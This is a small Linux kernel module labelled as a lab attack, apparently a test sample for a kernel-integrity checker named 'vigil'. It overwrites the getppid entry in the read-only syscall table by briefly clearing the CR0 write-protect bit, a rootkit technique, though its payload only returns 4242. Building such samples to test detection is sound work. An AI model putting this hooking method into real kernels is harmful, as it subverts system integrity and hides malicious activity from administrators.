// SPDX-License-Identifier: GPL-2.0
/* Lab attack: hook getppid in the 64-bit syscall table (which lives in rodata)
 * by writing the table with CR0.WP briefly cleared. */
#include <linux/module.h>
#include <linux/ptrace.h>
#include <asm/unistd.h>
#include "vigil_lab.h"

static unsigned long table;
module_param(table, ulong, 0400);
MODULE_PARM_DESC(table, "address of sys_call_table, from /proc/kallsyms");

static long hooked_getppid(const struct pt_regs *regs)
{
	return 4242;
}

static int __init hook_init(void)
{
	unsigned long *slot;

	if (!table)
		return -EINVAL;
	slot = (unsigned long *)table + __NR_getppid;
	LAB_WITH_WP_CLEARED(WRITE_ONCE(*slot, (unsigned long)hooked_getppid));
	pr_info("vigil-lab: syscall %d hooked at %px\n", __NR_getppid, slot);
	return 0;
}
module_init(hook_init);
MODULE_LICENSE("GPL");
